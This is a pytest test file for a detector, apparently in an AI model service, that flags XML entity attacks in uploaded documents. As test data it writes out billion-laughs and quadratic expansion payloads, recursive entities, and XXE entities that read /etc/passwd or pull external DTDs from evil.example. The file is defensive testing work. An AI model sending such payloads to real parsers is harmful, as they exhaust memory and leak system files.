"""Document types that attack a parser are findings, are never expanded, and are read in linear time."""

import io
import time
import zipfile

import pytest

from svc.assistant.file_types.xml_entities import entity_dangers
from svc.assistant.findings import Severity
from tests.support.carriers import document
from tests.support.inline_analyst import ask


def laughs(levels: int, width: int, *, reference: str = "&", declaration: str = "") -> str:
    entities = [f'<!ENTITY {declaration}e0 "ha">']
    entities += [f'<!ENTITY {declaration}e{n} "{f"{reference}e{n - 1};" * width}">' for n in range(1, levels)]
    return f"<!DOCTYPE a [{''.join(entities)}]><a>&e{levels - 1};</a>"


OPEN = {
    "billion laughs": (laughs(10, 10), {"expansion"}),
    "quadratic": ("<!DOCTYPE a [<!ENTITY a '" + "x" * 40_000 + "'>]><a>" + "&a;" * 40_000 + "</a>", {"expansion"}),
    "recursion": ('<!DOCTYPE a [<!ENTITY a "&b;"><!ENTITY b "&a;">]><a>&a;</a>', {"recursion"}),
    "a file": ('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', {"external_entity"}),
    "a DTD": ('<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>', {"external_dtd"}),
    "SVG 1.1": (
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>',
        set(),
    ),
    "HTML": ("<!DOCTYPE html><html></html>", set()),
    "a name": ('<!DOCTYPE a [<!ENTITY co "Example Ltd">]><a>&co; and &co;</a>', set()),
}
# Written after the reader, before any of them was run.
HELD = {
    "parameter entities": (laughs(9, 12, reference="%", declaration="% "), {"expansion"}),
    "declared backwards": (
        '<!DOCTYPE a [<!ENTITY d "' + "&c;" * 300 + '"><!ENTITY c "' + "&b;" * 300 + '"><!ENTITY b "' + "ha" * 300
        + '">]><a>&d;</a>',
        {"expansion"},
    ),
    "never used": (laughs(10, 10).replace("&e9;</a>", "</a>"), {"expansion"}),
    "one in itself": ("<!DOCTYPE a [<!ENTITY a 'x&a;'>]><a/>", {"recursion"}),
    "out of band": (
        (
            "<!DOCTYPE a [<!ENTITY % f SYSTEM 'php://filter/resource=/etc/passwd'>"
            "<!ENTITY % d PUBLIC 'x' 'http://evil.example/e.dtd'>%d;]><a/>"
        ),
        {"external_entity"},
    ),
    "over lines": (
        '<!DOCTYPE a [\n<!ENTITY\n  x\n  SYSTEM\n  "\\\\evil.example\\share">\n]>\n<a>&x;</a>',
        {"external_entity"},
    ),
    "XHTML": (
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
        set(),
    ),
    "a look-alike of W3C": ('<!DOCTYPE a SYSTEM "http://w3.org.evil.example/a.dtd"><a/>', {"external_dtd"}),
    "many plain entities": (
        "<!DOCTYPE a [" + "".join(f'<!ENTITY n{n} "value {n}">' for n in range(500)) + "]><a>&n1;</a>", set()
    ),
}  # fmt: skip


@pytest.mark.parametrize(("text", "expected"), [*OPEN.values(), *HELD.values()], ids=[*OPEN, *HELD])
def test_document_types_that_attack_a_parser_are_found(text: str, expected: set[str]):
    assert {danger.attack for danger in entity_dangers(text)} == expected


@pytest.mark.parametrize("name", ["a.xml", "a.svg", "a.html"])
async def test_an_answer_never_praises_a_billion_laughs(name: str):
    root = {"a.svg": "svg", "a.html": "html"}.get(name, "a")
    content = (
        laughs(10, 10)
        .replace("<!DOCTYPE a", f"<!DOCTYPE {root}")
        .replace("<a>", f"<{root}>")
        .replace("</a>", f"</{root}>")
    )
    asked = await ask("Is this file safe?", (name, b'<?xml version="1.0"?>' + content.encode()))
    assert "XML entity expansion attack (billion laughs)" in asked.markdown
    assert "ha" * 50 not in asked.markdown
    assert any(one.severity is Severity.HIGH for one in asked.findings)


async def test_a_document_with_an_external_entity_is_suspicious():
    packed = io.BytesIO(document("A report."))
    with zipfile.ZipFile(packed, "a") as archive:
        archive.writestr("word/extra.xml", OPEN["a file"][0])
    asked = await ask("Is this document safe?", ("a.docx", packed.getvalue()))
    assert "XML external entity (XXE)" in asked.markdown


@pytest.mark.parametrize(
    "unit",
    [
        '<!ENTITY a "',
        "<!ENTITY % a '",
        '<!ENTITY a "&a;">',
        "<!DOCTYPE a SYSTEM '",
        "&a;",
        "<!ENTITY " + "a" * 50,
        "<!",
    ],
)
def test_reading_takes_linear_time(unit: str):
    def seconds(size: int) -> float:
        text = unit * (size // len(unit))
        started = time.thread_time()
        list(entity_dangers(text))
        return time.thread_time() - started

    long, short = (min(seconds(size) for _ in range(3)) for size in (256_000, 64_000))  # a collection of garbage aside
    assert long < 0.02 + 9 * short
